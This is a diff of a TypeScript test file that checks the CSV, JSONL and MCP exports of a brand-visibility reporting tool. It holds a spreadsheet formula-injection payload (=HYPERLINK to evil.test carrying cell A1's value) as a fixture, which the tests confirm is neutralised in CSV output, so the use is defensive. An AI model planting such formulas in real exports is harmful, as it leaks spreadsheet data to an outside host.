@@ -23,12 +23,16 @@ let dns: DnsStandIn;
 let mcp: Client;
 const ids: Record<'site' | 'brand' | 'article' | 'traffic', string> = { site: '', brand: '', article: '', traffic: '' };
 
-const HOSTILE = '=HYPERLINK("https://evil.test/?x="&A1,"Acme") is what "they" say, and more:\nline two, with commas\r\nline three: 日本語の回答、中文の答え。';
+const HOSTILE =
+  '=HYPERLINK("https://evil.test/?x="&A1,"Acme") is what "they" say, and more:\nline two, with commas\r\nline three: 日本語の回答、中文の答え。';
 const hostileChatGpt = () => gateway.platforms.setBehaviour('chatgpt', { answer: HOSTILE, citations: ['https://evil.test/a,b?"q"'] });
 
 beforeAll(async () => {
   [vendors, dns] = await Promise.all([startRangeFileStandIns(), startDnsStandIn(SAMPLE_DNS_ZONE)]);
-  gateway = await startTestGateway({ BRAND_QUESTIONS: '10', BRAND_RUNS: '1', ARTICLE_QUESTIONS: '4', DNS_SERVERS: dns.server }, vendors.fetchOverrides());
+  gateway = await startTestGateway(
+    { BRAND_QUESTIONS: '10', BRAND_RUNS: '1', ARTICLE_QUESTIONS: '4', DNS_SERVERS: dns.server },
+    vendors.fetchOverrides(),
+  );
   const app = gateway.app({ rateLimits: { crawlerLogs: 100 } });
 
   hostileChatGpt();
@@ -45,7 +49,11 @@ beforeAll(async () => {
   const article = await postForEvents(app, '/api/article-check', { url: ARTICLE_URL });
   ids.article = article.events.at(-1)!.reportId as string;
 
-  const accepted = await request(app).post(`/api/v1/crawler-logs?domain=${FIXTURE_HOSTS.healthy}`).set('content-type', 'text/plain').send(sampleLog(2)).expect(202);
+  const accepted = await request(app)
+    .post(`/api/v1/crawler-logs?domain=${FIXTURE_HOSTS.healthy}`)
+    .set('content-type', 'text/plain')
+    .send(sampleLog(2))
+    .expect(202);
   const traffic = await getForEvents(app, accepted.body.eventsUrl as string);
   ids.traffic = traffic.events.at(-1)!.reportId as string;
 
@@ -59,11 +67,16 @@ afterAll(async () => {
 
 /** What a text cell holds once guarded against formulas. */
 const guarded = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
-const cellOf = (value: unknown) => (value === null || value === undefined ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value));
+const cellOf = (value: unknown) =>
+  value === null || value === undefined ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value);
 
 async function exported(id: string) {
   const app = gateway.app();
-  const [json, csv, jsonl] = await Promise.all([request(app).get(`/api/v1/report/${id}`), request(app).get(`/api/v1/report/${id}/answers.csv`).buffer(true), request(app).get(`/api/v1/report/${id}/answers.jsonl`).buffer(true)]);
+  const [json, csv, jsonl] = await Promise.all([
+    request(app).get(`/api/v1/report/${id}`),
+    request(app).get(`/api/v1/report/${id}/answers.csv`).buffer(true),
+    request(app).get(`/api/v1/report/${id}/answers.jsonl`).buffer(true),
+  ]);
   expect([json.status, csv.status, jsonl.status]).toEqual([200, 200, 200]);
   const csvBody = Buffer.from(csv.text);
   return {
@@ -72,7 +85,10 @@ async function exported(id: string) {
     csv,
     header: readCsvWithPython(csvBody)[0]!,
     rows: csvRecords(csvBody),
-    lines: jsonl.text.split('\n').filter(Boolean).map((line) => JSON.parse(line) as Record<string, unknown>),
+    lines: jsonl.text
+      .split('\n')
+      .filter(Boolean)
+      .map((line) => JSON.parse(line) as Record<string, unknown>),
     jsonl,
   };
 }
@@ -89,7 +105,8 @@ describe.each(['site', 'brand', 'article', 'traffic'] as const)('the %s report',
       expect(Object.keys(line)).toEqual(header);
       expect(line).toMatchObject({ exportVersion: 1, reportId: ids[kind], kind, createdAt });
       // Every cell of the CSV is the JSON line's value, written as the documentation says.
-      for (const key of header) expect([key, rows[index]![key]]).toEqual([key, typeof line[key] === 'string' ? guarded(line[key]) : cellOf(line[key])]);
+      for (const key of header)
+        expect([key, rows[index]![key]]).toEqual([key, typeof line[key] === 'string' ? guarded(line[key]) : cellOf(line[key])]);
     }
   });
 
@@ -103,19 +120,58 @@ describe.each(['site', 'brand', 'article', 'traffic'] as const)('the %s report',
     const result = await mcp.callTool({ name: 'export_answers', arguments: { id: ids[kind] } });
     expect(result.isError).toBeFalsy();
     const text = (result.content as { type: string; text: string }[])[0]!.text;
-    expect(text.split('\n').filter(Boolean).map((line) => JSON.parse(line) as unknown)).toEqual(lines);
+    expect(
+      text
+        .split('\n')
+        .filter(Boolean)
+        .map((line) => JSON.parse(line) as unknown),
+    ).toEqual(lines);
     expect(result.structuredContent).toMatchObject({ reportId: ids[kind], kind, exportVersion: 1, rows: lines });
   });
 });
 
 test('brand diagnosis: one row per answer, in the report’s order, with DESIGN.md’s columns; the hostile answer is neutralised in CSV only', async () => {
   const { report, header, rows, lines } = await exported(ids.brand);
-  expect(header.slice(0, 21)).toEqual(['exportVersion', 'reportId', 'kind', 'createdAt', 'market', 'platform', 'model', 'question', 'intent', 'run', 'status', 'mentioned', 'rank', 'first', 'sentiment', 'cited', 'citations', 'searchQueries', 'entities', 'costUsd', 'answer']);
+  expect(header.slice(0, 21)).toEqual([
+    'exportVersion',
+    'reportId',
+    'kind',
+    'createdAt',
+    'market',
+    'platform',
+    'model',
+    'question',
+    'intent',
+    'run',
+    'status',
+    'mentioned',
+    'rank',
+    'first',
+    'sentiment',
+    'cited',
+    'citations',
+    'searchQueries',
+    'entities',
+    'costUsd',
+    'answer',
+  ]);
   expect(rows).toHaveLength(report.answers.length);
-  const questions = new Map((report.questions as { id: string; text: string; intent: string }[]).map((question) => [question.id, question]));
+  const questions = new Map(
+    (report.questions as { id: string; text: string; intent: string }[]).map((question) => [question.id, question]),
+  );
   for (const [index, answer] of report.answers.entries()) {
     const row = rows[index]!;
-    expect(row).toMatchObject({ market: '', platform: answer.platform, question: guarded(questions.get(answer.questionId as string)!.text), intent: questions.get(answer.questionId as string)!.intent, run: String(answer.run), status: answer.status, mentioned: String(answer.mentioned), first: String(answer.firstRecommended), cited: String(answer.brandCited) });
+    expect(row).toMatchObject({
+      market: '',
+      platform: answer.platform,
+      question: guarded(questions.get(answer.questionId as string)!.text),
+      intent: questions.get(answer.questionId as string)!.intent,
+      run: String(answer.run),
+      status: answer.status,
+      mentioned: String(answer.mentioned),
+      first: String(answer.firstRecommended),
+      cited: String(answer.brandCited),
+    });
     expect(row.rank).toBe(answer.rank === null ? '' : String(answer.rank));
     expect(JSON.parse(row.citations!)).toEqual(answer.citations);
     expect(JSON.parse(row.entities!)).toEqual(answer.entities);
@@ -131,7 +187,15 @@ test('article check: one row per answer; cited is the article’s URL, with cove
   const { report, rows } = await exported(ids.article);
   expect(rows).toHaveLength(report.answers.length);
   for (const [index, answer] of report.answers.entries()) {
-    expect(rows[index]).toMatchObject({ platform: answer.platform, status: answer.status, cited: String(answer.citesUrl), citesDomain: String(answer.citesDomain), coverage: String(answer.coverage), intent: '', mentioned: '' });
+    expect(rows[index]).toMatchObject({
+      platform: answer.platform,
+      status: answer.status,
+      cited: String(answer.citesUrl),
+      citesDomain: String(answer.citesDomain),
+      coverage: String(answer.coverage),
+      intent: '',
+      mentioned: '',
+    });
   }
   expect(rows.find((row) => row.platform === 'ChatGPT')!.answer).toBe(`'${HOSTILE}`);
 });
@@ -152,9 +216,13 @@ test('traffic check: three rows per crawler (one per verdict), then one per refe
   expect(referrals.length).toBeGreaterThan(0);
   expect(rows).toHaveLength(crawlers.length * 3 + referrals.length);
   expect(rows.slice(0, crawlers.length * 3).map((row) => [row.section, row.token, row.verdict, Number(row.requests)])).toEqual(
-    crawlers.flatMap((crawler) => ['verified', 'forged', 'unverifiable'].map((verdict) => ['crawler', crawler.token, verdict, crawler.verdicts[verdict]])),
+    crawlers.flatMap((crawler) =>
+      ['verified', 'forged', 'unverifiable'].map((verdict) => ['crawler', crawler.token, verdict, crawler.verdicts[verdict]]),
+    ),
   );
-  expect(rows.slice(crawlers.length * 3).map((row) => [row.section, row.assistant, Number(row.visits), row.token])).toEqual(referrals.map((referral) => ['referral', referral.assistant, referral.visits, '']));
+  expect(rows.slice(crawlers.length * 3).map((row) => [row.section, row.assistant, Number(row.visits), row.token])).toEqual(
+    referrals.map((referral) => ['referral', referral.assistant, referral.visits, '']),
+  );
 });
 
 test('cached as the JSON report is: immutable, and 304 for the ETag already held; a byte-order mark only when asked', async () => {
@@ -167,22 +235,35 @@ test('cached as the JSON report is: immutable, and 304 for the ETag already held
   const jsonl = await request(app).get(`/api/v1/report/${ids.brand}/answers.jsonl`).buffer(true).expect(200);
   expect(jsonl.headers.etag).not.toBe(etag);
 
-  const marked = await request(app).get(`/api/v1/report/${ids.brand}/answers.csv?bom=1`).buffer(true).parse((response, done) => {
-    const chunks: Buffer[] = [];
-    response.on('data', (chunk: Buffer) => chunks.push(chunk));
-    response.on('end', () => done(null, Buffer.concat(chunks)));
-  }).expect(200);
+  const marked = await request(app)
+    .get(`/api/v1/report/${ids.brand}/answers.csv?bom=1`)
+    .buffer(true)
+    .parse((response, done) => {
+      const chunks: Buffer[] = [];
+      response.on('data', (chunk: Buffer) => chunks.push(chunk));
+      response.on('end', () => done(null, Buffer.concat(chunks)));
+    })
+    .expect(200);
   const bytes = marked.body as Buffer;
   expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   expect(marked.headers.etag).not.toBe(etag);
-  expect(readCsvWithPython(bytes)).toEqual([['\ufeffexportVersion', ...readCsvWithPython(first.text)[0]!.slice(1)], ...readCsvWithPython(first.text).slice(1)]);
+  expect(readCsvWithPython(bytes)).toEqual([
+    ['\ufeffexportVersion', ...readCsvWithPython(first.text)[0]!.slice(1)],
+    ...readCsvWithPython(first.text).slice(1),
+  ]);
   expect(Buffer.from(first.text).subarray(0, 3).toString()).toBe('exp');
   await request(app).get(`/api/v1/report/${ids.brand}/answers.csv?bom=yes`).expect(400);
 });
 
 test('unknown and malformed ids get 404, and so do unknown formats; a stored report of a kind without an export gets 400', async () => {
   const app = gateway.app();
-  for (const path of ['00000000-0000-4000-8000-000000000000/answers.csv', '00000000-0000-4000-8000-000000000000/answers.jsonl', 'nope/answers.csv', `${ids.brand}/answers.xlsx`, `${ids.brand}/answers`]) {
+  for (const path of [
+    '00000000-0000-4000-8000-000000000000/answers.csv',
+    '00000000-0000-4000-8000-000000000000/answers.jsonl',
+    'nope/answers.csv',
+    `${ids.brand}/answers.xlsx`,
+    `${ids.brand}/answers`,
+  ]) {
     const response = await request(app).get(`/api/v1/report/${path}`);
     expect([path, response.status]).toEqual([path, 404]);
     expect(response.body).toEqual({ error: expect.any(String) });
